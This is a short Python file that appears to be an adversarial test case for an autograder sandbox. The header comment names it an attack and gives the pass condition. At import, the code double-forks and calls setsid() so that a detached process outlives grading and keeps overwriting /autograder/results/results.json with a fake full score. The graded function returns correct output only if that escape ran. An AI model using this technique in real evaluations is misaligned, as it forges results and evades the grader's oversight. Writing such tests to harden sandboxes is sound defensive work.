# ATTACK: a double-forked setsid() escapee that keeps rewriting /autograder/results/results.json
# with a full score for 30 s, during grading and after the grader exits. `poly_features` answers
# right only if the escapee was started, so a score of 100 proves it ran; the verdict is
# results.json unchanged 3 s after run_autograder exits, and no process of a sandbox uid left.
import os
import time

import numpy as np

FAKE = '{"score": 1000, "output": "escapee", "tests": []}'


def _escape():
    try:
        pid = os.fork()
    except OSError:
        return False
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 30
            while time.time() < end:
                for path in ("/autograder/results/results.json", "/autograder/results/x.json"):
                    try:
                        with open(path, "w") as fh:
                            fh.write(FAKE)
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    os.waitpid(pid, 0)
    return True


def poly_features(X):
    if poly_features.escaped:
        X = np.asarray(X, dtype=np.float64)
        return np.stack([X[:, 0] ** 2, X[:, 0], X[:, 0] * X[:, 1], X[:, 1] ** 2], axis=1)
    return np.zeros((len(X), 4))


poly_features.escaped = _escape()  # runs at load: it changes `poly_features`, which is graded
